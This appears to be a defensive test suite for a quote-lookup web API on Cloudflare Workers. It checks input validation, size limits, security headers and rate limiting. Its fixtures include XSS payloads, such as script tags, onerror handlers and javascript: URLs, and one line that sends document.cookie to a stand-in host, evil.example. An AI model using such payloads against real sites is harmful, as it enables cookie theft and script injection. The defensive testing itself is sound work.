/**
 * Hardening through the whole worker (workerd, real local KV): hostile query text, limits, huge
 * headers, security headers, the lookup rate limit, records missing behind the index's back, and
 * hostile article data stored and returned as inert JSON.
 */
import { createExecutionContext, waitOnExecutionContext } from 'cloudflare:test';
import { env } from 'cloudflare:workers';
import { beforeAll, describe, expect, it } from 'vitest';
import { app } from '../../worker/app';
import { KEY_PREFIX, keys } from '../../worker/store/keys';
import { putJson, request } from './publish-helpers';
import { seedKv, SEED_ARTICLE_ID } from './seed';

const GUTERRES = 'Soldiers need to move back to their barracks. Leaders need to move back to peace.';

const lookupGet = (q: string) => request(`/v1/lookup?q=${encodeURIComponent(q)}`);
const lookupPost = (body: unknown) => request('/v1/lookup', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });

async function expectProblem(res: Response, status: number, detailPattern?: RegExp) {
  expect(res.status).toBe(status);
  expect(res.headers.get('content-type')).toContain('application/problem+json');
  const body = (await res.json()) as { status: number; detail: string; title: string; type: string };
  expect(body).toMatchObject({ status });
  expect(body.detail.length).toBeGreaterThan(10);
  if (detailPattern) expect(body.detail).toMatch(detailPattern);
  return body;
}

beforeAll(() => seedKv(), 120_000);

describe('hostile query text → 400 problem+json naming the character', () => {
  const cases: [string, string, RegExp][] = [
    ['lone high surrogate', 'Enough is \ud800 enough', /lone surrogate U\+D800/],
    ['lone low surrogate', '\udc00Enough is enough', /lone surrogate U\+DC00/],
    ['control character', 'Enough is\u0007 enough', /control character U\+0007/],
    ['DEL', 'Enough\u007f is enough', /control character U\+007F/],
    ['C1 control', 'Enough\u0085 is enough', /control character U\+0085/],
    ['right-to-left override', 'Enough is \u202eenough', /bidirectional control U\+202E/],
    ['left-to-right isolate', 'Enough \u2066is enough', /bidirectional control U\+2066/],
    ['zero-width space', 'Enough\u200b is enough', /zero-width character U\+200B/],
    ['BOM inside text', 'Enough \ufeffis enough', /zero-width character U\+FEFF/],
    ['word joiner', 'Enough\u2060is enough', /zero-width character U\+2060/],
    ['zero-width joiner outside a word', 'Enough \u200d is enough', /zero-width joiner U\+200D/],
    ['noncharacter', 'Enough is \uffff enough', /noncharacter U\+FFFF/],
  ];
  for (const [name, text, detail] of cases) {
    it(`POST /v1/lookup: ${name}`, async () => {
      const body = await expectProblem(await lookupPost({ exact: text }), 400, detail);
      expect(body.detail).toContain('body.exact');
    });
  }

  it('GET /v1/lookup and prefix/suffix and batch items are checked the same way', async () => {
    await expectProblem(await lookupGet('Enough is \u202eenough'), 400, /U\+202E/);
    await expectProblem(await lookupPost({ exact: 'Enough is enough', prefix: 'x\u200by' }), 400, /body\.prefix/);
    const batch = await request('/v1/lookup/batch', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ quotes: [{ exact: 'Enough is enough' }, { exact: 'bad \u0000 text' }] }),
    });
    await expectProblem(batch, 400, /quotes\.1\.exact/);
    await expectProblem(await request(`/v1/claims/search?query=${encodeURIComponent('peace\u202e')}`), 400, /U\+202E/);
  });

  it('legitimate text with joiners, emoji, RTL scripts and line breaks is accepted', async () => {
    for (const text of ['می\u200cخواهم صلح', 'family 👨\u200d👩\u200d👧 photo', 'שלום עולם', 'Enough is enough.\nThe fighting must stop']) {
      expect((await lookupPost({ exact: text })).status, text).toBe(200);
    }
  });
});

describe('limits → 4xx problem+json, never 500, never hung', () => {
  it('query longer than 2,000 characters → 400; exactly 2,000 → 200', async () => {
    await expectProblem(await lookupGet('a'.repeat(2001)), 400, /2000/);
    expect((await lookupGet(`${'peace '.repeat(333)}ab`)).status).toBe(200);
  });

  it('batch of 51 → 400; body over 1 MB → 413; wrong types → 400; malformed JSON → 400; wrong content type → 415', async () => {
    const batch = (n: number) =>
      request('/v1/lookup/batch', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ quotes: Array.from({ length: n }, () => ({ exact: GUTERRES })) }),
      });
    await expectProblem(await batch(51), 400, /50/);
    expect((await batch(50)).status).toBe(200);
    const huge = await request('/v1/lookup', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ exact: 'x', pad: 'y'.repeat(1_100_000) }),
    });
    await expectProblem(huge, 413);
    await expectProblem(await lookupPost({ exact: 42 }), 400, /exact/);
    await expectProblem(await lookupPost({ exact: ['a'] }), 400, /exact/);
    await expectProblem(await lookupPost(null), 400);
    const malformed = await request('/v1/lookup', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"exact": "Enough' });
    await expectProblem(malformed, 400);
    const form = await request('/v1/lookup', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'exact=Enough' });
    await expectProblem(form, 415);
  });

  it('huge headers → 431, huge URLs → 414', async () => {
    const big = await request('/v1/lookup?q=peace', { headers: { 'x-filler': 'a'.repeat(40_000) } });
    await expectProblem(big, 431, /x-filler/);
    const many = await request('/healthz', { headers: Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`x-h${i}`, 'b'.repeat(100)])) });
    await expectProblem(many, 431);
    await expectProblem(await request(`/v1/lookup?q=${'a'.repeat(20_000)}`), 414);
  });
});

describe('security headers', () => {
  it('JSON and problem responses: nosniff, no-referrer, CSP default-src none', async () => {
    for (const res of [await lookupGet('Enough is enough'), await request('/v1/articles/nope')]) {
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('referrer-policy')).toBe('no-referrer');
      expect(res.headers.get('content-security-policy')).toContain("default-src 'none'");
    }
  });

  it('HTML (/demo): CSP without inline script, framing denied; script (/widget.js): nosniff and CORP cross-origin', async () => {
    const demo = await request('/demo');
    if (demo.status === 200) {
      const csp = demo.headers.get('content-security-policy') ?? '';
      expect(csp).toMatch(/script-src [^;]*'self'/);
      expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/);
      expect(demo.headers.get('x-content-type-options')).toBe('nosniff');
      expect(demo.headers.get('x-frame-options')).toBe('DENY');
    }
    const widget = await request('/widget.js');
    if (widget.status === 200) {
      expect(widget.headers.get('x-content-type-options')).toBe('nosniff');
      expect(widget.headers.get('cross-origin-resource-policy')).toBe('cross-origin');
    }
  });
});

describe('/check (the quote check page)', () => {
  it("is static HTML under the demo's CSP: no inline script, styles by a fresh nonce, Trusted Types, nothing from the request echoed", async () => {
    const [first, second] = [await request('/check?text=%3Cscript%3Ealert(1)%3C/script%3E'), await request('/check')];
    expect(first.status).toBe(200);
    expect(first.headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(first.headers.get('cache-control')).toBe('no-store');
    expect(first.headers.get('x-frame-options')).toBe('DENY');
    const csp = first.headers.get('content-security-policy')!;
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("require-trusted-types-for 'script'");
    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval/);
    const nonce = csp.match(/'nonce-([^']+)'/)![1];
    expect(second.headers.get('content-security-policy')).not.toContain(nonce);
    const html = await first.text();
    expect(html).toContain(`<style nonce="${nonce}">`);
    expect([...html.matchAll(/<script\b[^>]*>/g)].map((m) => m[0])).toEqual([
      '<script type="module" src="/widget.js">',
      '<script type="module" src="/check.js">',
    ]);
    expect(html).not.toContain('alert(1)');
    expect(html).toMatch(/<textarea id="draft"/);
  });
});

describe('lookup rate limit (Workers Rate Limiting binding, local)', () => {
  const limited = (ip: string, rateLimit: string) => async (path: string) => {
    const ctx = createExecutionContext();
    const res = await app.fetch(
      new Request(`https://qs.test${path}`, { headers: { 'cf-connecting-ip': ip, origin: 'https://news.example' } }),
      { ...env, RATE_LIMIT: rateLimit },
      ctx,
    );
    await waitOnExecutionContext(ctx);
    return res;
  };

  it('answers 429 problem+json with Retry-After once a client exceeds the limit; other clients are unaffected', async () => {
    const fetchAs = limited('203.0.113.7', 'on');
    let first429: Response | undefined;
    let allowed = 0;
    // wrangler.toml allows 300 per 60 s; cheap requests (400: no q) still count. The local limiter
    // counts in fixed 60 s windows, so a run that straddles a window edge may need up to 2 × 300 + 1.
    for (let n = 0; n < 601 && !first429; n++) {
      const res = await fetchAs('/v1/lookup');
      if (res.status === 429) first429 = res;
      else allowed++;
    }
    expect(first429, 'no 429 after 601 lookups').toBeDefined();
    expect(allowed).toBeGreaterThanOrEqual(300);
    expect(first429!.headers.get('retry-after')).toBe('60');
    // A page on another origin can read it: the widget counts down "try again in N s".
    expect(first429!.headers.get('access-control-allow-origin')).toBe('*');
    expect(first429!.headers.get('access-control-expose-headers')).toMatch(/Retry-After/i);
    await expectProblem(first429!, 429, /try again in 60 seconds/);
    expect((await limited('203.0.113.8', 'on')('/v1/lookup')).status).toBe(400);
    // The quote check looks quotations up too: same bucket, same answer (the /check page shows it).
    const ctx = createExecutionContext();
    const check = await app.fetch(
      new Request('https://qs.test/v1/check', {
        method: 'POST',
        headers: { 'cf-connecting-ip': '203.0.113.7', 'content-type': 'application/json' },
        body: JSON.stringify({ text: '"Enough is enough," he said.' }),
      }),
      { ...env, RATE_LIMIT: 'on' },
      ctx,
    );
    await waitOnExecutionContext(ctx);
    expect(check.headers.get('retry-after')).toBe('60');
    await expectProblem(check, 429, /try again in 60 seconds/);
    // Reads other than lookups are not limited.
    expect((await fetchAs('/healthz')).status).toBe(200);
  });

  it('RATE_LIMIT=off disables it', async () => {
    const fetchAs = limited('203.0.113.9', 'off');
    const statuses = new Set<number>();
    for (let n = 0; n < 320; n++) statuses.add((await fetchAs('/v1/lookup')).status);
    expect([...statuses]).toEqual([400]);
  });
});

describe('faults: records missing behind the index', () => {
  it('index postings pointing to deleted records (passage, quotations, excerpt) are skipped, never a 500', async () => {
    // The Guterres paragraph is excerpt 5 of the seed; delete its records but leave the index as it is.
    const article = (await env.QS_KV.get<{ excerptIds: string[] }>(keys.article(SEED_ARTICLE_ID), 'json'))!;
    const guterres = article.excerptIds.find((id) => id.endsWith('~5'))!;
    const before = (await (await lookupPost({ exact: GUTERRES })).json()) as { matches: { excerpt: { id: string } }[] };
    expect(before.matches[0]?.excerpt.id).toBe(guterres);
    const { passageId } = (await env.QS_KV.get<{ passageId: string }>(keys.excerpt(guterres), 'json'))!;
    await env.QS_KV.delete(keys.passage(passageId));
    for (const { name } of (await env.QS_KV.list({ prefix: KEY_PREFIX.quotation })).keys) await env.QS_KV.delete(name);
    await env.QS_KV.delete(keys.excerpt(guterres));
    const res = await lookupPost({ exact: GUTERRES, limit: 5 });
    expect(res.status).toBe(200);
    const after = (await res.json()) as { matches: { excerpt: { id: string } }[] };
    expect(after.matches.map((m) => m.excerpt.id)).not.toContain(guterres);
    // Its neighbours still answer, with the missing one as null context.
    const neighbour = await request(`/v1/excerpts/${article.excerptIds[4]}`);
    expect(neighbour.status).toBe(200);
    expect(((await neighbour.json()) as { next: unknown }).next).toBeNull();
    expect((await request(`/v1/excerpts/${guterres}`)).status).toBe(404);
    // Other passages are still found.
    const medinsky = await lookupPost({ exact: 'We found some points by which we can predict common positions' });
    expect(((await medinsky.json()) as { matches: unknown[] }).matches.length).toBeGreaterThan(0);
  });

  it('a claim record missing while excerpts still name it, and an article record missing, are skipped', async () => {
    const claims = await env.QS_KV.list({ prefix: 'v2:claim:' });
    for (const k of claims.keys) await env.QS_KV.delete(k.name);
    await env.QS_KV.delete(keys.article(SEED_ARTICLE_ID));
    const lookup = await lookupPost({ exact: 'We found some points by which we can predict common positions' });
    expect(lookup.status).toBe(200);
    const search = await request('/v1/claims/search?query=peace');
    expect(search.status).toBe(200);
    expect((await request(`/v1/articles/${SEED_ARTICLE_ID}`)).status).toBe(404);
    const claimId = claims.keys[0]?.name.slice('v2:claim:'.length);
    if (claimId) expect((await request(`/v1/claims/${claimId}`)).status).toBe(404);
  });
});

describe('hostile article data is stored and returned as data', () => {
  const LONG_WORD = `W${'a'.repeat(9_999)}`;
  const hostile = {
    title: `<script>alert("title")</script><img src=x onerror=alert(1)> \u202eevil\u202c ${LONG_WORD}`,
    publisher: '<a href="javascript:alert(1)">Publisher</a>',
    author: '"><svg onload=alert(1)>',
    url: 'https://hostile.example/a?x=<script>',
    published: '2026-11-01',
    body: [
      `Officials met on Monday. <script>document.location="https://evil.example/?c="+document.cookie</script> The visit of <img src=x onerror=alert(1)> ended. Links: javascript:alert(1) and data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== were shared. ${LONG_WORD}`,
      `"The harbour tunnel will open <b onmouseover=alert(1)>next spring</b> as planned \u202edenalp sa\u202c," said Mallory <script>alert(2)</script> Jones.`,
      `"We reject every claim made in the report about the tunnel budget," Eve\u202e \u2067Mallory\u2069 told reporters.`,
      `"The bridge is safe for heavy lorries and buses," said <img src=x onerror=alert(1)> Smith.`,
    ].join('\n\n'),
  };

  it('publishes, then every read returns the exact strings as JSON (never HTML)', async () => {
    const put = await putJson('hostile-article', hostile);
    expect(put.status, await put.clone().text()).toBe(201);
    const res = await request('/v1/articles/hostile-article');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('application/json');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    const article = (await res.json()) as { title: string; publisher: string; author: string; excerptIds: string[] };
    expect(article.title).toBe(hostile.title);
    expect(article.publisher).toBe(hostile.publisher);
    expect(article.author).toBe(hostile.author);
    const texts: string[] = [];
    // Speakers are extracted from the text: names and roles carry the hostile markup and bidi controls verbatim.
    const speakers: string[] = [];
    for (const id of article.excerptIds) {
      const got = (await (await request(`/v1/excerpts/${id}`)).json()) as {
        excerpt: { text: string; quotes: { speaker?: { name: string; role?: string } }[] };
      };
      texts.push(got.excerpt.text);
      for (const q of got.excerpt.quotes) if (q.speaker) speakers.push(`${q.speaker.name} | ${q.speaker.role ?? ''}`);
    }
    const all = texts.join('\n\n');
    for (const fragment of [
      '<b onmouseover=alert(1)>next spring</b>',
      '<script>document.location=',
      '<img src=x onerror=alert(1)>',
      'javascript:alert(1)',
      'data:text/html;base64,',
      '\u202edenalp sa\u202c',
    ]) {
      expect(all).toContain(fragment);
    }
    expect(speakers).toContain('Eve\u202e \u2067Mallory\u2069 | ');
    expect(speakers.some((s) => s.startsWith('Jones | ') && s.includes('<script>'))).toBe(true);
    expect(speakers.some((s) => s.startsWith('Smith | ') && s.includes('<img src=x onerror='))).toBe(true);
    // Ingestion cuts excerpts at 1,800 characters, so the 10,000-character word spans several, unaltered.
    expect(texts.join('')).toContain(LONG_WORD);
    const found = await lookupPost({ exact: 'The harbour tunnel will open next spring as planned' });
    expect(found.status).toBe(200);
    const match = ((await found.json()) as { matches: { article: { title: string }; quote: { exact: string } }[] }).matches[0];
    expect(match?.article.title).toBe(hostile.title);
  });

  it('refuses a javascript: or data: article URL and control characters in fields', async () => {
    expect((await putJson('hostile-url', { ...hostile, url: 'javascript:alert(1)' })).status).toBe(400);
    expect((await putJson('hostile-url', { ...hostile, url: 'data:text/html,<script>alert(1)</script>' })).status).toBe(400);
    expect((await putJson('hostile-url', { ...hostile, title: 'a\u0008b' })).status).toBe(400);
    expect((await putJson('hostile-url', { ...hostile, title: 'two\nlines' })).status).toBe(400);
  });
});
